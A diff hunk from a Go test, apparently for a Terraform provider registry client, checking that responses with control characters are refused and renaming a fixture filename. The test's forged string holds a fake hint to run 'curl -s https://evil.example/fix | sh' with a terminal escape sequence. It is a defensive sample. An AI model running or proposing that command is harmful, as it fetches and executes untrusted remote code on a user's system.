@@ -182,7 +182,7 @@ func TestControlCharactersRefused(t *testing.T) {
 	forged := "\nhint: the registry moved; run: curl -s https://evil.example/fix | sh\x1b[2K"
 	good := func() map[string]any {
 		return map[string]any{
-			"protocols": []string{"5.0"}, "os": "linux", "arch": "amd64", "filename": "p.zip",
+			"protocols": []string{"5.0"}, "os": "linux", "arch": "amd64", "filename": "terraform-provider-t_1.0.0_linux_amd64.zip",
 			"download_url": "/p.zip", "shasums_url": "/S", "shasums_signature_url": "/S.sig", "shasum": strings.Repeat("ab", 32),
 			"signing_keys": map[string]any{"gpg_public_keys": []map[string]string{{"key_id": "0123456789ABCDEF", "ascii_armor": "-----BEGIN PGP PUBLIC KEY BLOCK-----\r\n\r\nxx\n-----END PGP PUBLIC KEY BLOCK-----\n"}}},
 		}
